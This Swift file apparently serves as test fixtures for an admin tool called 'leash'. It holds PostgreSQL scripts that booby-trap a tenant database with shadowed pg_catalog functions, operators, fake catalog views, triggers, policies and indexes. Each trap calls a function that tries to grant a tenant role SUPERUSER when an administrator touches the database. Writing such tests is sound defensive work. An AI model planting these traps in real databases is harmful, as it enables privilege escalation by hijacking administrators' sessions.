/// What a tenant plants in its own database for an admin to step into, as the role that owns it.
enum Traps {
    /// Says who stepped in, and uses it: the owner of the database would become superuser.
    private static let spring = """
        CREATE FUNCTION public.spring(what text) RETURNS int LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
        BEGIN
          IF current_user LIKE 'notes%' OR current_user LIKE 'a.%' THEN RETURN 1; END IF;
          RAISE LOG 'TRAP % sprang as %', what, current_user;
          BEGIN ALTER ROLE notes_1 SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
          RETURN 1;
        END $f$
        """

    /// Functions named like each of pg_catalog's, on the same types, and on types that fit some calls better.
    private static let functions = """
        DO $do$ DECLARE f record; v text; args text; BEGIN
          FOR f IN SELECT proname AS name, format_type(prorettype, NULL) AS ret, proretset,
                          (SELECT string_agg(format_type(t, NULL), ', ') FROM unnest(proargtypes) t) AS args
                   FROM pg_proc p JOIN pg_type r ON r.oid = prorettype
                   WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND provariadic = 0 AND pronargs > 0
                     AND r.typtype <> 'p' AND proallargtypes IS NULL
                     AND NOT EXISTS (SELECT FROM unnest(proargtypes) t JOIN pg_type a ON a.oid = t WHERE a.typtype = 'p')
          LOOP FOREACH v IN ARRAY '{text,name,character varying}'::text[] LOOP
            args := regexp_replace(f.args, '\\mtext\\M', v, 'g');
            CONTINUE WHEN v <> 'text' AND args = f.args;
            BEGIN
              EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s %s LANGUAGE plpgsql AS %L', f.name, args,
                CASE WHEN f.proretset THEN 'SETOF' ELSE '' END, f.ret,
                format('BEGIN PERFORM public.spring(%L); RETURN%s; END', f.name || '(' || args || ')',
                       CASE WHEN f.proretset THEN '' ELSE ' NULL' END));
            EXCEPTION WHEN duplicate_function THEN NULL; END;
          END LOOP; END LOOP;
        END $do$
        """

    /// Operators between any two types that catalogs have, wherever Postgres has none that fits exactly, and also where.
    private static let operators = """
        DO $do$ DECLARE l text; r text; o text; types text[] :=
          '{name,text,varchar,oid,regclass,regrole,"\\"char\\"",int4,int8,bool,aclitem}';
        BEGIN
          FOREACH l IN ARRAY types LOOP FOREACH r IN ARRAY types LOOP
            EXECUTE format('CREATE FUNCTION public.trap(%s, %s) RETURNS bool LANGUAGE plpgsql AS %L', l, r,
                           format('BEGIN PERFORM public.spring(%L); RETURN true; END', 'operator on ' || l || ', ' || r));
            FOREACH o IN ARRAY '{=,<>,<,>,<=,>=,||,~~,~,+}'::text[] LOOP
              EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.trap)', o, l, r);
            END LOOP;
          END LOOP; END LOOP;
        END $do$
        """

    /// Views that pose as catalogs and as leash's own tables, and types that pose as Postgres' own.
    private static let relations = """
        DO $do$ DECLARE c text; BEGIN
          FOREACH c IN ARRAY '{pg_database,pg_roles,pg_authid,pg_auth_members,pg_class,pg_namespace,pg_extension,pg_shdepend,
              pg_default_acl,pg_db_role_setting,pg_shdescription,pg_stat_activity,pg_locks}'::text[] LOOP
            EXECUTE format('CREATE VIEW public.%1$I AS SELECT c.*, public.spring(%2$L) FROM pg_catalog.%1$I c',
                           c, 'view ' || c);
          END LOOP;
        END $do$;
        CREATE SCHEMA leash;
        CREATE VIEW leash.state AS SELECT 'env_store' AS key, public.spring('leash.state')::text AS value;
        CREATE VIEW leash.applied AS SELECT 'x' AS address, public.spring('leash.applied') AS object;
        CREATE VIEW leash.audit AS SELECT public.spring('leash.audit') AS id;
        CREATE DOMAIN public.int8 AS pg_catalog.int8 CHECK (public.spring('domain') = 1)
        """

    /// A table that calls its owner's code whenever it is touched.
    private static let table = """
        CREATE FUNCTION public.spring_of(i int) RETURNS int IMMUTABLE LANGUAGE plpgsql
          AS 'BEGIN RETURN public.spring(''index''); END';
        CREATE FUNCTION public.spring_row() RETURNS trigger LANGUAGE plpgsql
          AS 'BEGIN PERFORM public.spring(''trigger''); RETURN NEW; END';
        CREATE TABLE public.bait (
          id serial CHECK (public.spring('check') = 1), d int DEFAULT public.spring('default'),
          g int GENERATED ALWAYS AS (public.spring_of(1)) STORED);
        INSERT INTO public.bait DEFAULT VALUES;
        CREATE INDEX ON public.bait (public.spring_of(id));
        CREATE TRIGGER t BEFORE INSERT OR UPDATE OR DELETE ON public.bait FOR EACH ROW EXECUTE FUNCTION public.spring_row();
        CREATE RULE r AS ON UPDATE TO public.bait DO ALSO SELECT public.spring('rule');
        ALTER TABLE public.bait ENABLE ROW LEVEL SECURITY;
        ALTER TABLE public.bait FORCE ROW LEVEL SECURITY;
        CREATE POLICY p ON public.bait USING (public.spring('policy') = 1);
        CREATE MATERIALIZED VIEW public.seen AS SELECT public.spring('materialized view');
        ALTER DEFAULT PRIVILEGES GRANT ALL ON FUNCTIONS TO PUBLIC
        """

    static let all = [spring, functions, operators, relations, table]
}
